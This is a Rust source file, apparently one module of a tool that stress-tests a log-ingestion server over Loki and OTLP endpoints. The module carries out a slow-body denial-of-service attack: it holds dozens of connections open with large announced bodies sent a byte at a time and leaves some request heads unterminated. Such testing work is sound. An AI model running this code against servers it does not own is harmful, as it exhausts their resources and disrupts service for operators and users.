//! Bodies that announce a large length and arrive byte by byte, and request heads that never end.

use std::io::Write;
use std::net::TcpStream;
use std::time::Duration;

use anyhow::Result;

use super::Attack;
use crate::ground::Ground;
use crate::pause::Pause;
use crate::raw;

/// This attack.
pub static ATTACK: Attack =
    Attack { name: "slow-bodies", about: "large announced bodies that arrive a byte at a time", run };

/// The length that each body announces.
const ANNOUNCED: u64 = 16 << 20;
/// Time between two bytes.
const BYTE_EVERY: Duration = Duration::from_millis(100);

fn run(ground: &Ground<'_>) -> Result<()> {
    let mut senders = Vec::new();
    for n in 0..ground.pick(20, 60) {
        let Ok(mut stream) = ground.connect() else { continue };
        let path = ["/loki/api/v1/push", "/otlp/v1/logs", "/loki/api/v1/query"][n % 3];
        let kind = ["application/json", "application/x-protobuf", "application/x-www-form-urlencoded"][n % 3];
        let announced = if n % 3 == 2 { 1 << 20 } else { ANNOUNCED };
        let head = raw::head("POST", path, &[("Content-Type", kind)], announced);
        // Every fifth request head never ends.
        let sent = if n % 5 == 4 { &head[..head.len() - 2] } else { &head };
        if stream.write_all(sent.as_bytes()).is_ok() {
            senders.push(stream);
        }
    }
    trickle(ground, senders);
    Ok(())
}

fn trickle(ground: &Ground<'_>, mut senders: Vec<TcpStream>) {
    let pause = Pause::default();
    for _ in 0..ground.pick(50, 400) {
        pause.wait(BYTE_EVERY);
        // Connections that the server closed are not replaced; it may close them.
        senders.retain_mut(|stream| stream.write_all(b" ").is_ok());
    }
}
